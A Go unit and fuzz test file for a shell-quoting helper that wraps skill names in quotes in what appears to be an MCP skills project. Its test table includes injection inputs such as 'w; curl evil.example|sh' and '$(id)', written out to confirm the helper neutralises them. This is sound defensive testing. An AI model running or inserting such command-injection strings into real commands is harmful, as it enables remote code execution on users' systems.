package shellword_test

import (
	"os/exec"
	"testing"

	"github.com/skills-mcp/skills-mcp/internal/shellword"
)

func TestName(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{
		"weather":                 "weather",
		"données-2.0_x":           "données-2.0_x",
		"PDF tools":               "'PDF tools'",
		"w --host evil.example":   "'w --host evil.example'",
		"w; curl evil.example|sh": "'w; curl evil.example|sh'",
		"$(id)`id`":               "'$(id)`id`'",
		`it's "quoted" \`:         `'it'\''s "quoted" \'`,
		"*":                       "'*'",
		"~root":                   "'~root'",
		"":                        "''",
		"--yes":                   "NAME",
	} {
		if got := shellword.Name(name); got != want {
			t.Errorf("%q is %s, want %s", name, got, want)
		}
	}
}

func FuzzName(f *testing.F) {
	shell, err := exec.LookPath("sh")
	if err != nil {
		f.Skip("there is no shell")
	}
	for _, seed := range []string{"weather", "a'b", "$(id); `id` | \\", "~", "#", "!x", "a=b", "{a,b}", "é'\""} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, name string) {
		for _, c := range name {
			if c == 0 || c == 0xfffd {
				t.Skip("no name of a skill")
			}
		}
		word := shellword.Name(name)
		if word == "NAME" {
			return
		}
		if got, err := exec.Command(shell, "-c", "printf %s "+word).Output(); err != nil || string(got) != name {
			t.Errorf("a shell makes %q of %s: %v", got, word, err)
		}
	})
}
